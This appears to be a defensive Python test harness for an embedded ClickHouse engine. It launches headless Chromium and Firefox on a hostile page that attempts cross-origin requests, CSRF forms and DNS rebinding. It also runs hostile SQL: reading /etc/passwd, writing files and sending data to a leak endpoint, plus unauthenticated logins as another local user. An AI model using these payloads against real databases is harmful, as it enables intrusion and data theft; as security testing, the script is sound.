#!/usr/bin/env python3
"""What a page of a foreign origin, and another user of the machine, get out of the embedded engine: nothing.

    intruders.py http://USER:PASSWORD@127.0.0.1:PORT [DATA_DIRECTORY]

The browsers open a page that tries every way there is and posts what it could read to the server here. Whether
something ran is asked of the engine itself afterwards, with the secret. Ends with 1 if anybody got anything.
"""
import http.client
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

PATIENCE = 90  # seconds for a browser, with its start
ATTEMPTS = 8  # seconds that the page gives its own attempts
NOBODY = 65534
CANARY = "row-that-nobody-may-read"

PAGE = """<!doctype html><meta charset=utf-8><title>evil</title><body><script>
const engines = ENGINES, statements = STATEMENTS, logins = LOGINS, got = [];
const note = (how, what) => { if (what) got.push([how, String(what).slice(0, 300)]); };
window.leak = what => note("script", what);
let forms = 0;
function form(action, fields, enctype) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + forms++; form.target = frame.name; form.action = action; form.method = "POST"; form.enctype = enctype;
  for (const [name, value] of fields) {
    const input = document.createElement("textarea"); input.name = name; input.value = value; form.append(input);
  }
  document.body.append(frame, form); form.submit();
}
function element(kind, attribute, url) {
  const made = document.createElement(kind);
  if (kind == "link") made.rel = "stylesheet";
  made.onload = () => note(kind, kind == "img" || kind == "link" ? "loaded " + url : "");
  made[attribute] = url; document.body.append(made);
}
const read = (how, request) => request.then(answer => answer.text().then(text => note(how + " " + answer.status, text))).catch(() => {});
for (const engine of engines) for (const login of logins) for (const statement of statements) {
  const url = engine + "/?" + login + "&query=" + encodeURIComponent(statement), bare = engine + "/?" + login;
  element("img", "src", url); element("script", "src", url); element("link", "href", url); element("iframe", "src", url);
  element("object", "data", url);
  form(bare, [["query", statement]], "multipart/form-data");
  form(bare, [["query", statement]], "application/x-www-form-urlencoded");
  form(bare, [[statement + " --", ""]], "text/plain");
  read("fetch GET", fetch(url)); read("fetch POST", fetch(bare, {method: "POST", body: statement}));
  read("fetch with cookies", fetch(url, {credentials: "include"}));
  fetch(url, {mode: "no-cors"}).catch(() => {});
  fetch(bare, {mode: "no-cors", method: "POST", body: statement}).catch(() => {});
  fetch(bare, {mode: "no-cors", method: "POST", body: new Blob([statement])}).catch(() => {});
  read("fetch with a header", fetch(bare, {method: "POST", body: statement, headers: {"X-ClickHouse-User": "default"}}));
  navigator.sendBeacon(bare, statement); navigator.sendBeacon(url, new Blob([statement]));
  try { const socket = new WebSocket(url.replace("http", "ws")); socket.onmessage = m => note("WebSocket", m.data); socket.onopen = () => socket.send(statement); } catch {}
  try { const events = new EventSource(url); events.onmessage = m => note("EventSource", m.data); } catch {}
}
setTimeout(async () => {
  // The rebinding: what was this page's own server is the engine from now on.
  await fetch(REPORT + "/rebind").catch(() => {});
  await new Promise(done => setTimeout(done, 500));
  const rebound = [];
  for (const login of logins) for (const statement of statements) {
    const url = "/?" + login + "&query=" + encodeURIComponent(statement);
    for (const request of [fetch(url), fetch("/?" + login, {method: "POST", body: statement}), fetch(url, {headers: {"X-ClickHouse-User": "default"}})])
      rebound.push(request.then(answer => answer.text().then(text => { if (answer.ok) note("rebinding", text); else got.rebound = answer.status; })).catch(() => {}));
  }
  await Promise.all(rebound);
  await fetch(REPORT + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify({got, rebound: got.rebound, forms})});
}, ATTEMPTS);
</script>"""


class Target:
    """The engine, its secret, and what must not happen to it."""

    def __init__(self, url, directory):
        parts = urllib.parse.urlsplit(url)
        self.host, self.port = parts.hostname, parts.port
        self.user, self.password = urllib.parse.unquote(parts.username or ""), urllib.parse.unquote(parts.password or "")
        self.directory = directory
        self.files = tempfile.mkdtemp(prefix="intruders-")
        os.chmod(self.files, 0o777)

    def sql(self, statement):
        connection = http.client.HTTPConnection(self.host, self.port, timeout=30)
        connection.request("POST", "/", statement, {"X-ClickHouse-User": self.user, "X-ClickHouse-Key": self.password})
        answer = connection.getresponse()
        text = answer.read().decode(errors="replace").strip()
        if answer.status != 200:
            raise SystemExit(f"`{statement}` with the secret: {answer.status} {text}")
        return text

    def prepare(self):
        self.sql("DROP TABLE IF EXISTS moose.made_by_an_intruder")
        self.sql("CREATE OR REPLACE TABLE moose.intruders (who String) ENGINE = MergeTree ORDER BY who")
        self.sql(f"INSERT INTO moose.intruders VALUES ('{CANARY}')")
        for name in os.listdir(self.files):
            os.remove(os.path.join(self.files, name))

    def statements(self, leak):
        return [
            "SELECT 'window.leak(\"' || who || '\")' FROM moose.intruders LIMIT 1 FORMAT TSVRaw",
            "SELECT 'window.leak(\"passwd:' || substring(line, 1, 20) || '\")' FROM file('/etc/passwd', 'LineAsString', 'line String') LIMIT 1 FORMAT TSVRaw",
            "SELECT 'window.leak(\"version:' || version() || '\")' FORMAT TSVRaw",
            "INSERT INTO moose.intruders VALUES ('intruder')",
            "CREATE TABLE moose.made_by_an_intruder (x UInt8) ENGINE = Memory",
            f"INSERT INTO FUNCTION file('{self.files}/inserted', 'LineAsString', 'x String') VALUES ('x')",
            f"SELECT 1 INTO OUTFILE '{self.files}/outfile'",
            f"SELECT 1 INTO\u00a0OUTFILE '{self.files}/outfile2'",
            f"SELECT * FROM url('{leak}', 'LineAsString', 'x String')",
        ]

    def damage(self):
        found = []
        if self.sql("SELECT who FROM moose.intruders") != CANARY:
            found.append("rows were written")
        if self.sql("EXISTS TABLE moose.made_by_an_intruder") != "0":
            found.append("a table was made")
        found += [f"a file was written: {name}" for name in os.listdir(self.files)]
        return found

    def tidy(self):
        for table in ["intruders", "made_by_an_intruder"]:
            self.sql(f"DROP TABLE IF EXISTS moose.{table}")
        shutil.rmtree(self.files)


class Attacker:
    """The page's server on one port, which becomes a forwarder to the engine; and a second port for what it learns."""

    def __init__(self, target, logins):
        self.target, self.logins = target, logins
        self.report, self.hits = None, []
        self.rebound = False
        self.reported = threading.Event()
        self.pages = self.listen()
        self.learns = self.listen()
        for listener, serve in [(self.pages, self.page), (self.learns, self.learn)]:
            threading.Thread(target=self.accept, args=(listener, serve), daemon=True).start()

    def listen(self):
        listener = socket.create_server(("127.0.0.1", 0), backlog=512)
        return listener

    def close(self):
        self.pages.close()
        self.learns.close()

    @property
    def url(self):
        return f"http://evil.test:{self.pages.getsockname()[1]}/"

    @property
    def learning(self):
        return f"http://evil.test:{self.learns.getsockname()[1]}"

    def accept(self, listener, serve):
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=serve, args=(connection,), daemon=True).start()

    def page(self, connection):
        if self.rebound:
            return self.forward(connection)
        if not read_request(connection):
            return connection.close()
        engine = self.target.port
        page = PAGE
        leak = f"http://127.0.0.1:{self.learns.getsockname()[1]}/leak"
        for word, value in {
            "ENGINES": [f"http://{host}:{engine}" for host in ["127.0.0.1", "localhost", "evil.test"]],
            "STATEMENTS": self.target.statements(leak), "LOGINS": self.logins, "REPORT": self.learning,
            "ATTEMPTS": ATTEMPTS * 1000,
        }.items():
            page = page.replace(word, json.dumps(value))
        respond(connection, page.encode(), "text/html")

    def forward(self, connection):
        engine = socket.create_connection((self.target.host, self.target.port))
        def copy(source, sink):
            try:
                while data := source.recv(65536):
                    sink.sendall(data)
                sink.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        threading.Thread(target=copy, args=(engine, connection), daemon=True).start()
        copy(connection, engine)

    def learn(self, connection):
        request = read_request(connection)
        if request:
            head, body = request
            path = head.split()[1].decode(errors="replace")
            if path == "/rebind":
                self.rebound = True
            elif path == "/report":
                self.report = json.loads(body)
                self.reported.set()
            else:
                self.hits.append(path)
        respond(connection, b"", "text/plain")


def read_request(connection):
    data = b""
    connection.settimeout(10)
    try:
        while b"\r\n\r\n" not in data:
            more = connection.recv(65536)
            if not more:
                return None
            data += more
        head, body = data.split(b"\r\n\r\n", 1)
        length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
        while len(body) < length:
            body += connection.recv(65536)
        return head, body
    except OSError:
        return None


def respond(connection, body, kind):
    try:
        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
        connection.close()
    except OSError:
        pass


def chromium(profile, url):
    return ["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--no-first-run",
            "--disable-background-networking", "--disable-component-update",
            "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP localhost 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", url]


def firefox(profile, url):
    with open(f"{profile}/user.js", "w", encoding="utf-8") as file:
        for name, value in {"network.dns.localDomains": "evil.test", "network.captive-portal-service.enabled": False,
                            "network.connectivity-service.enabled": False, "app.update.enabled": False,
                            "browser.safebrowsing.update.enabled": False, "datareporting.policy.dataSubmissionEnabled": False,
                            "services.settings.server": "http://127.0.0.1:9/", "browser.shell.checkDefaultBrowser": False}.items():
            file.write(f"user_pref({json.dumps(name)}, {json.dumps(value)});\n")
    return ["firefox-esr", "--headless", "--no-remote", "--profile", profile, url]


def browse(target, command, logins):
    """What a browser's page got, and what happened to the engine meanwhile."""
    attacker = Attacker(target, logins)
    profile = tempfile.mkdtemp(prefix="profile-")
    browser = subprocess.Popen(command(profile, attacker.url), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               start_new_session=True, env=dict(os.environ, HOME=profile))
    try:
        if not attacker.reported.wait(PATIENCE):
            return None, ["the page did not report: nothing is proved"]
        time.sleep(1)
        report = attacker.report
        if report["rebound"] is None and not any(how == "rebinding" for how, _ in report["got"]):
            return report, ["the rebinding did not reach the engine: nothing is proved"]
        found = [f"{how}: {what}" for how, what in report["got"]]
        found += [f"data came to the attacker: {hit}" for hit in attacker.hits if hit.startswith("/leak")]
        return report, found + target.damage()
    finally:
        os.killpg(browser.pid, 9)
        browser.wait()
        attacker.close()
        shutil.rmtree(profile, ignore_errors=True)


def other_user(target):
    """Everything that another user of the machine can try: the port without the secret, and the files."""
    def run(*command):
        other = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
        return subprocess.run([*other, *command], capture_output=True, text=True, check=False).stdout

    def gets_in(login, statement):
        address = f"http://{target.host}:{target.port}/"
        return run("curl", "-sS", "-w", "\n%{http_code}", *login, address, "--data-binary", statement).endswith("\n200")

    if not gets_in(["-u", f"{target.user}:{target.password}"], "SELECT 1"):
        return ["did not get in with the password: nothing is proved"]
    names = ["default:", f"{target.user}:", f"{target.user}:wrong", "root:", "readonly:"]
    logins = [[], ["-H", "X-ClickHouse-User: default"], *(["-u", name] for name in names)]
    statements = target.statements("http://127.0.0.1:9/")
    found = [f"as {login}: {statement}" for statement in statements for login in logins if gets_in(login, statement)]
    if target.directory:
        found += [f"can be read: {name}" for name in run("find", target.directory, "-type", "f", "-readable").split()]
    return found + target.damage()


def main():
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    target = Target(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None)
    target.prepare()
    bad = 0
    def say(who, found):
        nonlocal bad
        bad += bool(found)
        print(f"{who}: {'nothing' if not found else ''}", *sorted(set(found))[:12], sep="\n   " if found else "", flush=True)
    strangers = ["", "user=default", f"user={target.user}", f"user={target.user}&password=", "user=default&password="]
    right = [urllib.parse.urlencode({"user": target.user, "password": target.password})]
    for name, command in [("chromium", chromium), ("firefox", firefox)]:
        if not shutil.which(command(tempfile.gettempdir(), "")[0]):
            raise SystemExit(f"{name} is not there: apt-get install chromium firefox-esr")
        report, found = browse(target, command, strangers)
        say(f"{name}, a page of a foreign origin ({report['forms'] if report else 0} forms sent, rebinding answered {report and report['rebound']})", found)
        # The page that knows the secret must be seen to get in, or the attempts above prove nothing.
        _, found = browse(target, command, right)
        if not any(CANARY in what for what in found):
            say(f"{name}, the same page with the secret did not get in, so nothing is proved", found or ["nothing"])
        target.prepare()
    say("another user of the machine", other_user(target))
    target.tidy()
    raise SystemExit(1 if bad else 0)


if __name__ == "__main__":
    main()
